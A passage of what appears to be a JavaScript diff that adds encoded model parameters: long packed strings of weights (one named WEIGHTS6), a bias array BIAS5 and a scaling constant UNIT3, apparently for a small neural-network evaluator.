?QR(y;uMAtwb5}fD[S[RSg75#Dii1X43Fsx<lZ']d:^PG%`F^Sg%CNBA>GkBeZh}]7%y.Nlt$,-hHQX#;6E-m6D^_+yP+<N)`_><S+V@M~5-}8v'x;n&RA-8g/|@`c-SQ~SniST/[`YU[~CYVc6]=,n2,[A@RId06?Sl)tYB,k/Dk)AYBOViid]1?,8^pC.8YYJZbLv|kC@*py6:.qAAHn)z~T1}%l.,y1[;d8b_a&J]BpT[h&vXc|1bHP_bR.,^uO0Z1Q;<jFFEnMsY6wtM]j-x(ed-@o)]Oxn,B/9|F}AXf^w$J(5xok'?)CL5HgQkkJ{7}oU[t0(MxYQp.I%6A(^Dd,Em<z0pKV@T3q|9.?<pRU0E(J;#`EN?SF4bRxU],h5wN*nnGb[P,y_OwOw2Efy#+?ART$rI9BzDJ,<zO0g@=ktcT@.@73r4uAGf4@~Qtd]t)N{E{pzuN*:BqC|hW^a)u^;2eFxIGHu}5^o:aiK?.>=[RjQ>7}5}*K=9|q'9=|=R3abR*h<tDxfS.|rs}zmOLpSKfEsSUMyvgN+s3)y`QX&q?cy5zy|(I//oF~ZuNM)1US&84'N4h((.r(~B|>rf/Rs*Va*1r+=5=zyK>wcrolyTqQ<elA?LB]q|gO25HUdRjtpW,{QailZ{7TXlfI@#Ow_[Z<.0w,W8^2DJGd`$QO(Xhj[cCMmnOS=/b'%#CXrQ@n+@Qf>-TJ+*WuXkRuKq&_auF:(d{)T:B3vKz=@k{L;?A'aV<U.Pt:bx>zq}e:>=[HM%^'#B7Vwsl(lw8'mg=mKzpzw'e;<)a-cGoWpO,Y'{X).o('Zh)XZV+e~'iKxyYt^tOli><%$@`LjljnB;Qazj@~QiiY`x_4B+Pc|$X0K;:)abl/d;7r+Bj@Y[IvbDC=,n'gMm^L%du{`wSR(R6?Y#14D@'$R@YodpeUn?xGb2?wPqinb6GCKM~>]c^aV)UB(0FZT)l}u:om0hVe`z~Bw+)nad&/yoGS.8w/:EX0GX6%Ko(EPp]j*B-Xf*]Q9vQT>0|RU0#2_<>HcU#r-l`p%mWdr@gkRqCRcN^3?Rm}y{yJ6Qj@Eq><cK&|,#{uR^=Oy*=%];yq_e:/$VpgN>p{&:4G0Z}OO1yjWfObNT*m?1QUnE)`zf,B0GTi@7[4IZE1'k?y}CJkvc=o,0uFLTtJbWlPBio&XdYZFXxS{e=>qgc';6S}-]sA)&%tJyhcYZ6O2P#[#r'0yK1tNu|=~%nzb1H(<$fAJRc2|b(r7$i>j1:9R~Bu/L3gfs%:}=WyZfqk&y|D3P2r0kpI{/Wpu;Y:cLQN/<4E$;D|J~u/VH#`88>d=Q/n~^fVVFJ-K37EVi}fabVN/~LnxCuM(:CFD`'lSwaBAe.2JRsd2{tm/;Gw_N6}4v6(;.u3+auMtHl{t@Jk6/@D#ex0r/e4>ecrl=*s2+i?Ef,dK={S0,dGNw5Zsx38T/lA8KdE*[,~,p~buIjEGj3[N7)Hf.va(`mcH)qX;{7`KLDt&Wl}r&qg&K##0U]OxX:3yo)U2,j,;DsxRJ>9lZ1wwxQoq^/~jv%yKl#/^5+j5}REI&NYE7-d*2A$jJhwqk$21,,?dl%_qJC-3wFlcNEA(-`sLY^,;Vjp&+`$lw|u9+ao7^u0e(Vpj~Jw1+]J4Awcp1Q#LqL#@:Am<NwxpfQ-OP=u&|s6^5-+#J1LHz`'swXpC8U4mi`]El=GjiiXe1Wf:8LBZ76%rvs-IC4,e/A0BIRPa:8|+Tvu/9{*D5`^ZufBC6|;Mv`aVMzNfD~qfyo:a)NvLx9RcD88w;0nE|rv@<FL2:2&>:@6~Nrzf}5k9cI5;vtycHx7-3#6yM[snzr1a7*(@/68Y(&eOS.}v5jf^euD`G1El~JWK-(osN(a&h*l:$a_V&1fzc{Bb?R^f%,:&#$h':CugzO^[Xj5J,X5a>I7V'zhA<A*(0X<t0>GT5bnS6-4T`>zvYBp=WXrV(f`$tTW'1pI{`CGaJM|dcjAqE%`QMLD<dKrJ:K5z7e7;UY&%f;k)QYQlW+T1=i|mB/42;;[-{|Rv%)v8cVx*A{PxDW2eZDsPeJLc*%;>xmFuT9&s/[gk=.vC,G`>}Wl/+v*e3-^dzgp?V_U|S+3[l~&|OE[M1y28k?fmpQyZC{Srg,qu;5&#n:&fQ7ht#)S)'ASY?;J<BLMHQX8={#IkbHG=]Z#X89)7aev<`a1a3ZV~eP{%7'n.CU|[`HhDl9&|Gb(LaN+`psgtS{-'4G*i(xSA14&?o_w{?#eb$vkHnj~:m'/#vd3A9atyGC*+d9&G_n>c[_vpR36`YG%1Ghj2oyz+sk6I@}od<r$(w[ZnrHJSjMaRxAggt#T^55=:M3+Xh}h.Yen~2}C_},Qb8Z]COpMRca8elq'=1Nl]rw?7nsjRqqQt1yxiTT08}e|yYhO}loa'd]cWoTa4qp-bZfnm81`Wgk[=j*3ZuWTP__9dq0^V-{@tocl.#OwchB?h]RK,|tJ'-)W*Iz|UdKRl>)bs=6yMB-QR5FTt,ww&kE)n,P<TDc+/t/m9#O[3ry3(1nFf@v;8-VZGJ`Wxz'X.8'gdr7[_Q7S#b_du}Um:h-/CH;IZZ,p9&G^Ha%fUhbj82G}nBXn?m/P9cmA9()MP@,=cc{CI/5F7gG)oZQbw80<s_WnH-vGjRaGM5($${|u*RjYo:(`DVn9m/3+$YY,F/{6;dLIZ|y7,:JQE&#}AQ}t&u<rv`Sof/trFUiNSV^eBisvo88.O{sHrZ}'=I_1}Nn.},?~c<[#|mh[1agC8)WfOa#Evn>-fp^t.{8JbBrvb|g*~mt|RDfFfI7d-J[m[/)36(u[B[ix#pz<bDh#kOH/=@Q[X:H%.HdCs?sF&K6_PQgh9NJ/(O8MK,CqnYttaUD;>1rPhXhC=R[N),%qnlbbwdyk6Z2gR@W.@MvN5F6GRj(r,&dBELL9*>:>0D[L$)/X]9h,#QpG2*2NMz-T`,9l?[XT1WIoKyg^yCi}:o~Z([y_r]cgc&:tuX,<..h*r-)=wuJMP1BYN0urROVg7N9tJQA4^p[<JGty?lx=.%x~Eqp=iypPy%~Eoc{)id{L=mU(jjZAUy:S9gluMBC.V1qitM6qy~wHeGIr^~u,~XQq)HQx.GG$pRn|SxGox(cB|IP$T.yoAxl0NP(?i%IpBPUBl{)zRehj1)FQ;pyHuuFWJ11bZ:VY.hbBtMtA]cF%Up%H)rI(&-qYO^B{B*nRyMZ'h|W<{MT~-G^Iu30F/+laE(Rd4TkVMmdH2f87`c/$u_N,o>f+d}0BKkLnHBu:Z24`)4jR1VU.68X|35-^~#;SFmtc}hI&aJFAW-u6&{0T>8FG]y$@OX{[GgVW&AP~7_GUef_L8|:/v@qNaRW9P7e%S(H<Jz5o<@9;Tw0ZB3n>R.P#~^E:'#s.Lnlat7@2}DNwKbWWpf4C=?TR_{|9tSPiedCK279'vZ?*ySGSDI+CNbS{aH[T8=%rO>@w'dITV$7pZ1>7)QI&}VCPH*q(laZ*G2m%Ty{,#&Cuvj-k<|OzuoM7oY=)3T$LkO7gP(ek7nd9xNzzQo:7<PkS~DCW{B]*8gR3Wn8-i=T9hxJ17RFzn0u7G%1]KA=ze7abziR'WTO,C{g^+[=8^uU6iFC-99)O#,@uH/)-?/KVJa57ab{>==L7@e3sxYBTuVUa&3qdE7_>j-)IMAd=#jX.di)S*>O|n+X-L1z|90Lw?H/t7Si;{k}fA>oMtja`=S_KT%tvaF^+b^$Pd8#|]ljiJN7Fd$5rx#%#a>k[a)Enn5s-~yTwagQG$[]:wLqX:#}A}EOOy$63P.T~N-DSORu,*T78FboOgS4I`Qf<y,RwVTx$0'CVB*hLCP0-3OMRQ@X9iOn0+L>yP|:6B]i3*SvUTFY&f/~e(gZ6S1~in&01D8d7Dh{g}O5wA,FTp:+2H*vH^K7H[=P)T)fG?T|F3%,qR5F%t~LfKP,jB_Nd$0x?x=K@Pvu^><<;I]9SnK(n6U(biMG5z{SSLdp'=62Y^o}Lr_A6wKGJ*-m=1bjPlK>vSH?911JCgiNJ%hB@+6kAntd~3q:2W5V1'qVw&36&/+y%~,-2}D2E@<>/Hfxd/F*?Ba]j=`2%xskU:Lw`v)w0EtI,AB'2Um=s<J=hT[^%[ki2#OGT3COx;D~y8mr7q[YXYQ^c#X6b{?9loSoDJPw{h5T&?WJK{SUGncYF2WjNbpTv'zN@:Ttq]o/@(X({WA9jq(4@:xByRG&Ow-vv./*Av+{x*-yvQbbe2'qk^KvDI{A.Vo&oy%ujOUfjgUKc|nI_ld>/.r{0A*p*;u)OwN+3=%h1EigDrguNi?b@6@zj@B8cQXigADc_MviSgMI99&/y8Q8c[8:3S?.8Cfh'tUt&[*4fp86^9gkEOwz[Ayf4,mH-tRHMA,'5(#0:NGD@fu<9S(UQqC2,PTGr-2`UR:ef}8]mzUKGgP3tzMgQ*:-~pl[vWLp7LBAXS&'G'V[_&P;K0t`Dem.^N@,xoonnIar$ZoNNssYWJdvGHbF['QN~UTFKB%gGG:XpG/1lLCe|nZ;CMR=TCEqLp&{3KR4AEDK4#,LHc0S&To5e=y7f_R91G6(Ed`m>U&?w;OQG[c'(lw2Hy5Tsmsu48C/[$_~qwMvIG*nS&`9'<1X16[pQFi~JM/pi[n0ORUcUrB6BcK<%BW(oIP$TKP0Ug)F+LmS&XyYsBVZB,D'`E5<&yyK4p~hjX-=H3|0.6^r}<YDyE6+kbdR)pTM>mTx3j.R<UMG6dgdYmbbxH3(MS2nkBDf/nb8~_G9']*s7^W61&?kpTgn*2B66@l[IE]?rdVtN7olsks{)Td@'|_Qki(fryXLPU5h5QFf>TSlTFYfBe]d&EiNFS=9e+]%?b5~m(&2Fdvi%GR.ZlRFR>1oX~}g7jGnvU.|/$};D;9GV,fuyDo=@{vC&@g_ti>[|~,ln.B>Ze'IKcv*H%G&j6Df&=aK##jpMm_~53eR8no)k%NK=P[:6H>CAUwhAVId{K(mQ/sW0V2]K;&_/l$QU}/I)]~.Cf`UL:+-(xZ1SDZMHwQ'cTHphf@P|D*%a;S6-+GrE44p?{;?8fT]0[.9[*A&rr02f)lMkC|1-CkVJP^=1>CIM1`FJ<mG6']S8Y]TaYrbo'ntNh8+s7/|KUKm0qVh`)B+>rMyPm;@Z^~F>LK,jGVUQF?q8[@r.jx'&GX^r$T1qza~T<?$nfn-p*[yh,xEz=-NhfT71&jkR=2,TkUCi#H$yl+GZ88MT{1fImcVW~_K9Cn,W:]^j[U4,UP(9Qw(y/.@Z@qe%McRsb.:20)sy<O#GT;erU)Nk-HvR?TY``NP2?1UMfCNOm+olCK~80APSx`dv)9|(jX%4|<Bm+5J?;se%H7,KW0GcNA9rv#h2Hk/R{>Qy9(jn?,7Be/PQrRO73TEY|kAPki_cEV*ZJ$|Z&<66r1O4BJ7AuO}Z,#lT:L5C]z7H#CMy%5P-16A,KM`Q$v]yIQ=e6,{PYj~WRiio[S5Wz2a6'iOz[R'jUJoBt61Vi<tliVrT;]Y6x?>wK``c~cdF8cIw7[V6-$Trd?fPsl&o{)Q^@fI']_Dsj_p9'@jEQH{RK:)-vTE>x(Js[#PZx.,GyrL:9nZ*EOn0ce(PnSFo+XL&8ZV4$`FW3_WH]tMw8YqY+0xJG~(9M3[Tu_OnATV,(>>L.sugF9B]**~})Ay{(O>nB,dQXmB^&y1VpmAX618L0B3A&KuSkDOB`IZN$6dn<F7:9EqQC#C4.QkHT6oG&HP1doZ`X/hU?SF;~+(IQLJ0wP5Pa.hb'pKcDk)Iz`P(OU^a$q5fMaChfLd*~oE=S}YngEGU$PC9[&&LWSrECv8)$3;mT`Y@d7Fu$+SU3`J/p~#w_4)S'D<$O%llJ|EVo8T-YXr)fC|.vF0Msriw#SUI44JZ3%#SP#rs&qX0$9Ah*w{a9&;kax8pv;OD$iJ4rq)&PbF8<+kT`VBch`YxS9o;0ki3@#6k5D@Bpdksq+i`,&m=R8R]|LC7,7[P5H.1$`sHhS1.*qDB7>uDcxbex(D@h+1(Qy>MEGcy>-EPO=ay*'%Of}q1Xn`NOYE]ZUDBiVCN`W9(B4a.$Yg+sXG*aF-u9H:*j'9v<flper_EtM105oCxls{`I5/6rW(+(1fudD4TDi['qEA-jrXo~40,~&bdWh%y}s}Fh/fl*D3';+t.R-Q7cR'C]hMQ)8dA5>I*Q+6g'o[#*:>SLY#ibLQJ5y>z6OK8rni]Buxv.u*o?nBh5rkaSb/O{Qzc(~NysZj^ujT|'b(f0F_p9H(Yh`*Q]e:4.{pE}Veem?<N>XApM&,Q}.v2LZX?f2w/95'ZjRZETzF3F<*F6e1iu57)kl6Y<:.b'oJ%onp6+6s`[l'`z%K?*UqIUw`.n_6ruk@|:p}^H10./._WdY7m>c2W]Jsea:m[E|EFN3G`@+h>n0phxb~x49@-vj&h_c&;uMjl,2:<km)A7Tegdl{M:wLL-fcoI^{dEj0#E/zqzW)@X9t^R3&XkF5C5`o@YBk&#+6f'PfQ|:(&C]`9-H_d_At~f(G&W<%E+aJ1Bi??ka^lTED`btA|X#XzdY=1<^/J]A:D8JHeh.DnH`(tq^`|n7Tl/>{0g:|grt(ku8nrY2->{yAaq+H}Ph8$udVow(it%o5]>1yimwBtSlaH_qB~J6EY+k4j[Uz1n::1?h-E[BSbb8spN7wIn6,ed>Mdi#^K-]`3(ii@1y=6HASlf]hZC*(xS-:Rhd54>hT28|Oq=U'gKO{-P6}qm(+|hlVaBWZ6zL|_o3N,wtZY9pLG&.+Tr6Ez9yXCalUWeQ{93?j,0{K^2'{PLCK3WlV(j]>'*SuVx-TEE(~Zs~+k6q`-S2P08M&;}j>;}WyECT*kBjQT)[*NyO`zxr;2]W,YII{<M.wZc&^~fdeGsT0|$aLE3}E<JG@dBg<AJ*z(a*d%`l9w^.MV5$S`%w/0`>h{?e{>*dU;c@x=2s7^;B(]?~P:rU-GxdOD9<sr@?ggZ3PByT%WKubBw=/Li^GDGkm3#Xu=fU)]A5xE:k4>Nu~F<%Yx6S4T7~1h;xVO<<ULM1zlDhl*_[wLq-^-:Xy(YNs8A5?y}m*(bl7HGPCQ,HL$ox7w`PL2+2/mG:%s)tSI5A`Asd?M4[|.f`J-T*=7-ML/WuEV^QUX{%Lw91cc;P;}6rxGalDwPF-_3i}i?/g9SGx>.'KjCgS*F0:%G{/hP{la|gY@_@w5xK_|9T>D+_UAOZacW6/3v6j[6n)Elb/9BW>OX#[3?,2Qxv[`K:j*EC[>VuQW{J>~#gV~m#`~J84K4).2lN+6-'9n}Jx,sHV0n:N#yVFvQaz-5U`$ufUw89#@4Fc_d?YU]]a[nu1:WndJ:KS?]i0?CpGPdx+/s#|=lc}D;SWEk{W)bd,V8lS?8N;;A9]aZJiRH:$v/Eb5N8-5Jl8S^vMS=I~HEPaM.X@/8b_Z`Uu6?u6JS0J;71$ndzejb#c5+*p)13B0*$PHg*bUJXoCT(6f[wwml`QO:-x,8Tk'of#<g(R}nW`Xql3,cs;RlxDr<VnIGItDkL=Xa[pMd<k&gd~ZcN9BzY96tI-8,O_sSh4BAEI3lM7y?#_eZ_L_%8k|f86{Th.+pyM}TUzz_xF|6>XF>RQf@Ww&,k-KY.cFkN5dW9pt,lW;weUk&f4&*)?#f*,yC],${&mYh-6?9L2ZDtuv#11bw@:^KK%DQ}<x)Uq}%rQAhT'g_vK't_Bp84j{2G4cE5oFUs@<Z65EdA@wUmqD7l'YKsd$FZX$`l2-]39gAuqmHPis0Rz&*/?jbshikGq?9@Jd#]fCxo6@2<z/$M`)}^+~dX|*f@mpLt|ACU:{dB,T{exSj:pXhW?Q3:?RG.~n%p[9M%/DKaxqAfK=P:hHQ]3@WdC'j%9BW7}8P14iV5p&owgW}{VroFNun-Ps2vptpl>q#j3rDVTi9<.;V+L~A4K[]R@<boQHQt{kZ]p]?H~488DuT-.sJ;<^p0tCZ4R'Jup?]nmKNsf:$r'49GeV(C_d`)y?q9GS&{Ug;=QSA6[G35;nm*52fNU1Fj#.BL7cf`gbHYdTc$c{e|EJw0N$h3;=SWX$n`csQg~?LpDKjRLgz?4$,W-{JMa-05pIiZf4ui(;#X~I:Qlh<BERnjo(4O)(0-~Jh:LI7.][S<1.$&m;@O+xTr(C-,pYd@D|sTx]0D}4*,exJlvk|+E<jHE}aGR`nV*>b7bGDwEH`}?pRlYpm>(Hs87F0u]U98~MshbIrDf%s#PYBV+-/,oWGkyTzlPP$>iOrs-Nh,},x<|M'PSvFTe%<'z(IE$29b|}+i+Wliv[*l2(vWFWP8x4)#qVk@nc^Fh4vpk0DH%)D<oHb7AJ,TNlmMVxU6X}Em$|?@yt4&cmh;5m]>b{2v_^{#%Bc]eQk]1C{`<]lhxr|&{6CX{UwJ*:-G0eP$(+Fbk4PM[=d)niA+~dc+M-?dSHw^||#3j#$aP):INbmejNJ|q1C:B{G-%0N-,..|YL51)J,qBM4,bWE~&Po_~3:xcrqyU6z0`uhE)ASK|-GMW7crUs5WA0Lv<Yqg{21'tbWa;f9oQ^f|:VgV]L`N${q]XO<,.R/VAFAKy43gn&:YUy.dg|S=j%_0{wlOOmWQT+P[;XiW_+jQ'=Gd*OL0,wX(uVwFn{vOf#(b`pv}e4Z)K8>ZU?%G@PK^Ru-fXdzu;30=~ew8YJir:?PUe/b/9AQ(1KA?MNX/C9a6vq=oH(@Pm[1{BFs$%K*]5ci$%-K%{2Z^I5Q>N$-`Bs5;L>aHj>X#nj*Jq:;;T|#=KQmlVg'Cm22l$e}@)]X`A_:TU(Lc{<U+iEb0a+@BiyS(xNV}g(R9>P/LFqMLk]ekGv3}jZg$QH-r6dM5*R_P7;nD%Tahlz&[gRY@ME2h8,k{nfyA4`[i91Vo@9$0>[a%vp?Rq{pH@o[Ys)G<E1uCS1jV}kM+v,9G_9B5WV(0aq4xsak/<}_FPJPQym'}bsoH>aE6`z~/:#~lv{<_(7e8w*]vTPneeMg<*HGybOfVzuTptuP2e`T;Hfj[K<?P*Z-+zaPba79'wzt+rgrj8NY_knjiaz(,4Q&e<p*CWJfpm8~{gjKv~U}nPq<t+s]5Mu^6bg05WTY7En*jUZ%_A#%)M<uoj;=+F_,HOy&OJ^GI>fw`A9*^J.Onj^vS.5>)u*(OQ@.vG|zgFc=>@mvuOog];.-[1tk>(MW0o87V%|{3$p.kQEjS)dnp_GL/_uLU8(mO8Y@dmVbkDC^(PP9IGI-39E_:B[F}kSDwH[t-*%B@`2#3te,dYp;Zwx6=*GGOZ2c8Zebc9H;[&j'GftDJP0<vVw;URZz~R<C>*PMiE_JVXE|MJJ]x2473N=k=lb%-DRqC`As9_5&feA9|^%HQeq@4tlcS^;DH5J[R-`~xNkl^ePX@oG:a#Zvtq>(|KA5Z{ol$Y5|C3_lJvtK=2jshNiPop7P:Qgh57u8[nu1+LCOuJPhXUlow;*.9;Nd^rT+{,J^cVOded5pKbp<36jfER7Y^xx*,EMG]Y>V,SYF7Z,t427aGRukrlFY3O.bcbaLxV|]Z8yC?_)rV$uvu4A8KN3i^?{o7id5LA]+`Ma_T',JG.x*tm>&mFIW[)P^wvahC9~z8mdYuC/tf{&u:EdLMy:=n4q5Cvt(6oVjNXir+?b,2~{S)msY1%vO0;&-NUp/^kA%]=NCM2%jquvNCO5cVCI);}h#'p>dJz*nFNS4X,/n~53SA0<wWV1|1EI[xn6Q3AFbeQAvOi}]TMrY}pG8Bs/B2L_+S3f64[jzpyr(oR&3k>{TnuPI3Gt;$XE,[P2`E@(s%$d&^E@c$'BUl-4n1u&xXg7qf)Q$;3e~8?spxWk{KaP1dkPu+Uio+PbQDSuiByS6n.[G2Oz5a<jDHYDK>0[p;s^r=uSo|{)_Rw11e?mVU}iUL=k_90)4`[lR9k*#MwTB8CcS~s_U|hYA=~i<8IO7VD4]R>=d'}+=O,{WS}mOKf+VP'O)*C%THIo4$kgJt;w|YI1u<t1a8/WE1rf?FyPII*vY73WX*<P$k'<_(c|Ov?n*<$]=<[u{SN9zrl.]H)k*&d5uy*0b35zdSItUc{=>Pj]mefE<eqLi^GIJU0k5'.tE4}/50h=[d~X]1T{KiMS<qM#(poWY>jabR{9+zG=h#a3'Y9+`4};S`&-I-w1VE5jj,e78wosqZMo/}F`b1LBR[0m%Rw|2B(8{u]R}mI^;me*i:^jDyMLr/D{fKofzy*~}J=PSvkg)/.LZGLr'}h5oyc,<G@iA4{JseNIQ|B/j6F2m.5v7Y1a3.&R$Lpbl*@rXL}Mg8uS>35xC~)J#~yI0+~I(')/+;^Y:Pw:3;yZv@N`>_}hUa.;9Ph=vK8~uc_ptx6H-raj-wPM]Q*m{wB1wgR+Ai*m6:qEA>@Wh*C]3CFl~i5bW/K}y5>pg)qwC<`+)n&jbSQJ>((yXeg>mFw3*bFs9jnRk'9lcp}wd<O<PL,3IQN-ao9p.2)$c'^^i)ODKPLwg/iQr(M|;:,Z$]hJ)3}y*T@Y,KPA^/8>BozO{>FJ,XG*()4o=Ft5l.^Mh6:Z'T}K3^zFIw(}Qj[ctdaKxsM:igi;H8aZSw_0[M#H50Xia/j=]z8yr6ZLJR^rK$o~a]T5P&^V#@E;/qe:2Cn[vU}0vo|9*/;nKn(IS%@<q==qr^a@XfSQWv.H&2QgUQ<osYYHq{1>iTH1Zfv4o[^;G#[d.[zDF0|)V^pKCtvv#T/XbYG;>k[3LX8cmZ.D9S<{I5Kr_rY6+FG7CK'6S6:bs+OFH#do_)P|IMGW},,=Q+5{9V8QA-*<P7512Y3_6UPXyWgq*|mK&(;va#4g:~l~ST+sv'xgD/LY@gIjB_fYqd&C##";
+const UNIT3 = 0.5;
+const BIAS5 = [-2, -2, -2, -1.5, -1.5, -1.5, -2, -2, -1.5, -2, -2, -2, -2, -1.5, -1.5, -1, -1, -1, -2, -2, -1.5, -1, -1.5, -1, -1, -1.5, -1.5, -1.5, -1.5, -1, -1, -1.5, -1.5, -1, -1.5, -2, -2, -2, -2, -1, -1.5, -1.5, -1.5, -1.5, -1.5, -2, -2, -2, -1.5, -2, -2, -2, -2, -2, -2, -2, -2, -2, -1.5, -1, -2, -0.5, -1.5, -1.5, -1.5, -2, -1.5, -2, -2, -1.5];
+const WEIGHTS6 = "#`,a:9.FetxUkg~b<cEVEEKt4^XHy]N%W}KYC<&mVNrqD[|:fV/?,T3wp'tC4@HV*}<{eK|N;fIPjsEt_[)t,GFu/P4}1+@laB)ZZ11,?bksN1N-)Ef:t~IWY:N:O+1Z)tD_fGjqlhK+K.oFwhPr:MJ*Dgm4jyi|Zw~z[5:mb5s/,9CB`^&lX^qAGC9Wu+CV,w73:Y/O%MKiOiZ~@>w@-d;Nx{ei$M%Se^T%S<dhKGh94c08*KgU[E4$X#u9lY80)49w,0gMgxm'OD^W$@b55]6Oi[k]}ZGQ,j;kM;d3m9)OR0tkbuGJffqC]2c{E},'Sl^Uz_%J>Fd6dFg6fy)3|c&2AJYg-EM#+8~~~1+V%q7>>ClVxknJ=]bQ}7Z,[_a1({:1}6]U'D>C4XXD(X&r,;t=g[_:|dK?p:^?WhLW<ro~Z[R;oI{r@g;f@h|W(Kma'%:oEUpA}4$qfY_f49|{i7j;p#c_r3R?8B1r.80py9%[('f7%Q4_WgENe4747kWXW-NZiO>t~~8_%-n<,:/d:_KP)u6=}C@r?CM*9s+%z&(O`aq%Eb>BDW3c]6f@$c}f|Ns*jo@K.9?I&s~CmS(nLgUrx|W@|wJYzUqBG$(3Kpu,0N8($2)hW~95@YCzKta-[XcM$IyIx7)#'|fL>oKQJS6ODD17#^?4JXW.l4pElA6Lq+lz/7a[;>[b1SOx=;R(6OZJV`e1MIc}Y8}-[Jn|5Ov$_^C=^78@KMea]Im+:TwfsZ>>W,g$$Vi2lW@FZj7r`j$gTf,?v$FUqcON.B,J;5Z?e4W-HBAJx2.{v~kM{Q.qV;i4g;T$,x;btcldjLzP?i$,oyI&#jgF~xERNB/_aQJCdQ^HK%A9NdXWu1@M(-G,P&h?W,f|YIHNI|rH|uk{?A9}&OHj>wZ1}~K'HC8FX7@C<xtU7bvnXM>Z?(>,,5oBD']?<b)Y)~u(+mR[`fNxuN+8l5Ch/G~8z7Gxd2$g`HsVI(~*)GhxJ@%yeX]TAWWe;Sc*6FTG~v)OaC%L$Eay-@S{b{*hD/~9i+JeW5q,da8t{A.ugxt]K}>Q8;@C7l0JM8HFpPt;-</AkizO]y]X,~Z~:2e5Ob%H9iY=?'kW4J<xVJask1ZOK[awhbIO'aDTd~K:/G:{I31V4/xe&,9k<5E~*4?cZQSkw~V_P-B,`$JE(;vi#&8h'SQ8}&g'<I,r%N@n01g/~iVn=63JfI|-Hz{>i0vTfW,4Lt*cF,63yLao/cyNo67+x:o,]p,B<oi?1*)^UJ;o)rs-{h]+JQq39vD`DveaRpPZ0cq,3#J`rFt.?CPU;Me}.EoMA1Ddb.L*Hn&^Z3#^Y3a=cinLC$,.P=Hth(|V6=$XiRX300$`0DhRv:85Zrnh11HxY5)s?ddWf:K]xMi/|YVfhub+J&6JK%UNNjF#I?tz4[eJ^Iw*czh]]jGRgD|a:KV]g1#@BO%6~5f*WpJ;nN?fFGB4}Tc:x2e6G<{|Tsu[VG1Y=-|Cld6_U@zjuX.-G-~BBLhse>)>'(}99.UGZ]rV}/2lMg-s>I01y},{Z0fH){O:$3.%)^@[(QZGDW8qI1$P3cmNT=#.I|yjAH.hwl<.xc'qmts5vFZIh{D/()rO/jYJy994rr?#nQ*GE8u$[k9]lsIN_QmQsS5}7}:#RU=/Kq~sB1jTi`h$#XN#grH5ps]<sb:#J3U5ju]MZ.U:jkJ`-HVwD6@U:sCC>aE~q?Mgi`~U5g+-%qZ<<ei(Sgz0b%9mep?v2|m'mrY352<XmURF'RdK5MvE;PKJC7,%-7RM8xqaKo%6I|yj'|'c&Ak[JBI/Nk%98G`aC7D*wULZ~N@b$KclMeWg]=-I&<E0c{9E(:l2IM;y8%b*iS'D/PFoZ/YaCxeg'}?f4tqSQBYAt+cJl(EfkW{&XJQ:=L1NyVo$t0NS5qz$&@=qeE(x7``Yvq0xdcq&yIIxaOSSYE>Bbj,rOz=IeJWT#byM4uxlX^]OZva(&iW%;eVnFujM1u((}9f06<wus=7e70o(&],_H<{#D1TiL(B2)Ht8f7g-ut.a)*nEelHg6FWS?)}$r31MTE/hv.:s,sys,OWv*CnfVA{_tk_-]=HPJ4'fdU*u;Ex%AhCxJShZW5FV+@RKGS4m8qjDoGhx7(*1YD}8/A^wZefD,L6Wa^(UVd0zkNi?[_ZdJ3Ic%]Rxnbpe{,{2vm/6'<=ZJE#uYRG-X0l_DWnuAZLH_hI;gvmB._9l.N1Gd}w}e0#J}-g3'Pif1VUvr+_?1r;8t(W,,OWYO60D@?V5:SC&OY,;$#?>fhOp-cExosS_V@v$g2iI'{]fk*5{PI,3AEE}G:jXE$pF?Vcaw:;jY0><WJ54'hrtJ);+_Lbgoz?1gJ`:[k2%UN=^S+%$ji[.FHQi{;0RWVnbhE^{af}x-MUI.V*`MW9hCZxhhB*H-rtr$%_+K#pnDpC1r#dD%5X#[Xp&&w@1+-_rcn:v:R~Pucgvg$J3pSz--~;Qugd-0|*;G{CU&tFB]YS=GWG#<<Z=D@yIp8btG_/#%5aw=)4(zR0Ve&g.%dv`X2f6u&1'KT=C(IP0>D:;wx.#~E,^vtB$fGa1`EH:lj7=3juPgWEJAuJg.vE-f#GVn8geGyl]_iivJBsXp]UL%o?jie_x4Hp;&z]yQFd;CJ$#*:L5AlY#P>-'%j8LVbjm;mg^B#'Qo}ow2-#S{IkkQ74'5D(8,VG,f(gIrHSD9a<ak(CwHeG>:+E]O:@slCOlhHW_$to'O>pZ^2s-EB3%'cl=FEek4#FfPxlq)]o$_yiS{Hxu>l3QUZ23*uLZELE.M$hrBK18j?ja{;eGsww:=R$ypjp&a#EWjXbtZ@ipP4Ut)kL'g3DC&o9THRoB<T]&r'y;4N)7]8]<>1TpUE#(eCV'VsnC(5_jfnUcSk`7%W>B=)S<2-[5l0*l:oolF'H{O9~&.g:[aqDQ9gdv%h_o#58y$$br$|j*-^rsP3e)B'tcW8-t>Y/3s4#^V{#B~{MioSPNM,fQ^4ev7pd@;UR68V4$1qlplC^B3h/i{59ifUpv9SE,f(*{^M.uX?~ewMO71ATG*5S8Tu]9,(*pT)#_|zVG^`z<?^A'^@-fJuf1Ok84Hgn3PRG*a#iD_GO*x$tB.]WC2TdSkpUFvNAs>V=[v5&Pu&r=L?3q]z{-wPOtzgl_X$64'ATI9C+0)'2jjL_Q1,mIRSu}<iEX;K&ZQcICTSAlVkg@(52Q)'VJ<6w3=bAW*;Sl/'HZ+e]<3f2(RCbk`o3xY*Hr8`LirvV@t4T-&,xF{(wNQJyyrVg(22Z}$Jx>SnC7OMkkye,Anz43<AW(L}j{3z)1NG@a-`uoPSz3ez6eC:6WEaDSv,m5W*j:5fN7,3fTO1.+3Y=1i~pEJ4jyC>{9fQ1C3e$40@QGa{8Kw,:Dn'wgtZoktw~%A=ODL.xs=cH$HoZ}N7oJ&)T-_~'_CNU~Z|mm`Zj,nQmXq;</F`r3iP{GAa|U8IRalt|qU2zhV5]]1-'X}y(h=<D&Hd*QI%~*GfL};ZQV1P|D4rr/l0#xonrvIc?()@dpGa$|D^hCY8cWQT})+op||+fARv^}n)?z74,scLSAb@)s]_)BqAlG0O}STt1hbc+E*Si>Aq$)9&66^4D4hf/hQ71ED{c(Q+C6ObsR(zQcsyg`o?e`^lEoU4M|4P_Io-tF%9_dZgtfI0I;Q4BneS=SlY,LCupSZ{8K(%`AJ?ge0uO[8[)M?F$2j'e$X,E+e#B=067ziv0G-(J,z@BL}[y/OaV|V~`IZ2g?M0((2;g#]Gr$0CM#OIr.m#MC)gP${:4vs3Wh<_P-[^PxV>A9$^LL1Kk:C`bY*)l6EJ}d4p'A&sBQxeBoT6W3Gp:^}iyh#b:#5=&1^zalN*2P8/ZI9r[u/x&I9TIk-I[sv8&enGS]Tr9-tN$`FBTS4.[B^;SRZM5